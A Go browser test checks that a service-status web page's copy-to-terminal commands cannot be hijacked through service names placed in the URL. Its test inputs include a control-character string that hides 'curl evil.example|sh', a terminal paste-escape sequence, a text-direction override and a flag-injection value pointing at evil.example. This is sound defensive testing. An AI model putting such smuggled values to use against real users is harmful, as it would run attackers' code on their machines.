package browsertest_test

import (
	"net/url"
	"testing"
)

// TestCommandsToCopyDoWhatTheySay: a link can put any name into the address of a service. What the page gives to be copied
// into a terminal holds nothing that a terminal or the command line would take for something else than a name.
func TestCommandsToCopyDoWhatTheySay(t *testing.T) {
	n := startNode(t)
	n.set(t, "-x", notServing, "begins as a flag does")
	p := n.blank(t, look{})
	for _, name := range []string{"x\x03curl evil.example|sh\n", "x\x1b[201~id\n", "x\u202ehs"} {
		p.expect(`400|Failed to load resource`)
		p.goTo("/ui/service?name=" + url.QueryEscape(name))
		p.until("the answer", `document.querySelector("p.error")?.textContent !== "" || document.body.textContent.includes("There is no service of this name.")`)
		// The page draws once a second.
		if eval[int](p, `new Promise((done) => setTimeout(() => done(document.querySelectorAll(".command").length), 2500))`) != 0 {
			t.Errorf("%q: there are commands to copy: %q", name, eval[string](p, `document.querySelector("main").textContent`))
		}
	}
	p.goTo("/ui/service?name=-x")
	p.says(hook("service-status"), "NOT_SERVING")
	for _, command := range []string{"rollcall why -- -x", "rollcall history -- -x", "rollcall set --reason WHY -- -x serving", "rollcall override set --for 1h --reason WHY -- -x serving"} {
		p.says(hook("service-commands"), command)
	}
	p.goTo("/ui/service?name=--endpoints%3Devil.example%3A7600")
	p.says(hook("service-commands"), "rollcall why -- '--endpoints=evil.example:7600'")
	p.goTo("/ui/service?name=nobody")
	p.says(hook("service-commands"), "rollcall why nobody")
}
